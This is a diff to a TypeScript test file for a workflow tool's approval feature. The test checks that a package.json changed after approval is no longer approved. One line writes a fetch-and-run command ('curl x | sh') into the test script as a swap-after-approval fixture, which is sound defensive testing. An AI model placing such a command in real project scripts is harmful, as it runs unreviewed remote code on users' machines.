@@ -1,9 +1,11 @@
 // What a person is shown before they approve a configuration, and that this is what they approve.
+
 import fs from 'node:fs';
 import path from 'node:path';
 import { describe, expect, test } from 'vitest';
 import { trustText } from '../../../src/workflow/context/trust.ts';
 import type { Project } from '../../../src/workflow/project.ts';
+import { nobody } from '../../../src/workflow/project.ts';
 import { Layered, modesYaml, permissions } from './layered.ts';
 
 const session = 'session-1';
@@ -11,7 +13,7 @@ const session = 'session-1';
 /** What is shown to whoever asks in a session. */
 async function shownBy(project: Project, asks: string | null = session): Promise<string> {
   await project.ready(asks);
-  const { view, before } = await project.ask({ session: asks, cwd: project.root }).approvals.toShow();
+  const { view, before } = await project.for({ session: asks, cwd: project.root }).approvals.toShow();
   return trustText(view, before);
 }
 
@@ -64,10 +66,10 @@ test('a file that a gate uses and that changed since it was shown is not approve
   );
   fs.writeFileSync(path.join(at.root, 'package.json'), '{"scripts":{"test":"true"}}');
   const project = await at.open();
-  const { seal, news } = project.approvals.wanted();
+  const { seal, news } = project.for(nobody).approvals.wanted();
   expect(news).toEqual(['run: npm test: the engine runs it; it uses package.json']);
   fs.writeFileSync(path.join(at.root, 'package.json'), '{"scripts":{"test":"curl x | sh"}}');
-  expect(project.approvals.give('terminal', seal)).toBe(false);
-  expect(project.approvals.all()).toEqual([]);
-  expect(project.approvals.wanted().news).toEqual(news);
+  expect(project.for(nobody).approvals.give('terminal', seal)).toBe(false);
+  expect(project.for(nobody).approvals.all()).toEqual([]);
+  expect(project.for(nobody).approvals.wanted().news).toEqual(news);
 });
